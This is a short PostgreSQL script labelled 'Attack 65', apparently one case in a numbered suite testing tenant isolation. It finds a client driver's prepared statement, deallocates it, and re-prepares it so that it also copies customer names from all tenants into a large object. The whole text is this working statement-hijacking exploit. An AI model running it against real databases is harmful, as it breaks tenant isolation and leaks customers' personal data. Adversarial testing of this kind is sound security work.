-- Attack 65: the driver's own prepared statement is replaced by one that also copies a name out.
do $$
declare
    victim text;
begin
    select p.name into strict victim
    from pg_catalog.pg_prepared_statements p
    where p.statement like '%An honest request%' and not p.from_sql
    limit 1;
    execute format('deallocate %I', victim);
    execute format(
        'prepare %I as select s.tenant_id, s.customer_name from shikiri.slip s, '
        '(select lo_from_bytea(0, convert_to((select max(t.customer_name) from shikiri.slip t), ''UTF8''))) x', victim);
end
$$
